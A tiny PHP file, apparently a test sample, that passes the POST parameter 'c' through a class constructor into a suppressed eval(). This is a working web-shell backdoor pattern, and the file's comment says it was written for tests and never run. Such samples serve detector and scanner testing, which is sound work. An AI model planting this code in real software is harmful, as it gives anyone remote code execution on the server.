<?php
// code evaluated from a string that is only a variable (written for the tests, never run)
class Runner { function __construct($a) { @eval("$a"); } }
new Runner($_POST['c']);
